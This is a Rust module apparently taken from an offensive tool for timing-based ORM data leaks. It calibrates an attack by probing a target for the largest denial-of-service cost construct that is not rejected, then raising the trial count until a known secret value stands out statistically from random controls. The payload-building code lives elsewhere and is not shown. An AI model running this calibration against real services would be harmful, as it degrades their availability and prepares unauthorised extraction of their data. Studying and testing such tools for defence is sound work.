//! Parameter fitting before exploitation.
//!
//! - DoS magnitude: the largest cost-inducing construct the target still
//!   accepts, found with the oracle's search strategy
//! - Trial count: the smallest count at which a known hit is reliably
//!   distinguished from random controls

use super::session::TimingSession;
use crate::models::{Alphabet, OrmLeakError, Result, TrialConfig};
use crate::oracle::{DosSearch, TimingOracle};
use std::sync::Arc;
use tracing::{debug, info};

/// Settings of the fitting procedures.
#[derive(Debug, Clone)]
pub struct FitSettings {
    pub alphabet: Alphabet,
    pub threads: usize,
    pub do_trials_search: bool,
    /// Consecutive significant checks the trial search requires
    pub search_comparisons: usize,
    pub verbose: bool,
}

/// Send the fitting probe at `magnitude`; true when the target accepted it.
async fn accepts(oracle: &dyn TimingOracle, magnitude: usize) -> bool {
    oracle.set_dos_magnitude(magnitude);
    let payload = oracle.fit_probe();
    let accepted = match oracle.send_request(&payload).await {
        Ok(response) => !response.is_rejected(),
        Err(e) => {
            debug!(magnitude = magnitude, error = %e, "Fitting probe failed");
            false
        }
    };
    debug!(magnitude = magnitude, accepted = accepted, "Fitting probe");
    accepted
}

/// Find the largest DoS magnitude that does not get the request rejected.
///
/// Starts from the oracle's current magnitude; a rejection of that first
/// probe fails the fit immediately.
pub async fn fit_dos_magnitude(oracle: &dyn TimingOracle) -> Result<usize> {
    let start = oracle.dos_magnitude();

    if start == 0 || !accepts(oracle, start).await {
        oracle.set_dos_magnitude(start);
        return Err(OrmLeakError::CouldNotFitParameters(format!(
            "request rejected at the starting DoS magnitude {start}"
        )));
    }

    let fitted = match oracle.dos_search() {
        DosSearch::Linear { step, backoff, max } => {
            let mut magnitude = start;
            loop {
                let next = magnitude + step.max(1);
                if next > max {
                    break magnitude;
                }
                if !accepts(oracle, next).await {
                    break next.saturating_sub(backoff);
                }
                magnitude = next;
            }
        }
        DosSearch::Halving { initial_step, max } => {
            let mut magnitude = start;
            let mut step = initial_step;
            while step > 1 {
                let next = (magnitude + step).min(max);
                if next == magnitude {
                    break;
                }
                if accepts(oracle, next).await {
                    magnitude = next;
                } else {
                    step /= 2;
                }
            }
            magnitude
        }
    };

    if fitted == 0 {
        return Err(OrmLeakError::CouldNotFitParameters(
            "DoS magnitude backed off to zero".to_string(),
        ));
    }

    oracle.set_dos_magnitude(fitted);
    Ok(fitted)
}

/// Find a trial count at which `hit_value` beats random controls
/// `comparisons` times in a row.
///
/// The count starts at `max(trials, 2)` and is escalated after every
/// failed series; exceeding `max_trials` fails the fit.
pub async fn trials_search(
    session: &TimingSession,
    hit_value: &str,
    config: &mut TrialConfig,
    comparisons: usize,
) -> Result<usize> {
    config.trials = config.trials.max(2);

    loop {
        let mut all_significant = true;
        for i in 0..comparisons.max(1) {
            let check = session.check_is_significant(hit_value, config).await?;
            debug!(trials = config.trials, comparison = i, p_value = check.p_value, "Trial search comparison");
            if !check.significant {
                all_significant = false;
                break;
            }
        }

        if all_significant {
            return Ok(config.trials);
        }
        config.escalate()?;
    }
}

/// Fit the DoS magnitude, then optionally the trial count.
pub async fn fit_params(
    oracle: &Arc<dyn TimingOracle>,
    settings: &FitSettings,
    config: &mut TrialConfig,
) -> Result<()> {
    info!("Finding a DoS magnitude that does not get requests rejected");
    let magnitude = fit_dos_magnitude(oracle.as_ref()).await?;
    info!(magnitude = magnitude, "Fitted DoS magnitude");

    if settings.do_trials_search {
        let calibration = oracle.calibration().ok_or_else(|| {
            OrmLeakError::CouldNotFitParameters(
                "the trial search needs a calibration field and a known hit value".to_string(),
            )
        })?;
        let session = TimingSession::new(
            calibration.oracle,
            settings.alphabet.clone(),
            settings.threads,
            settings.verbose,
        );
        let trials = trials_search(
            &session,
            &calibration.hit_value,
            config,
            settings.search_comparisons,
        )
        .await?;
        info!(trials = trials, "Fitted trials");
    }

    Ok(())
}
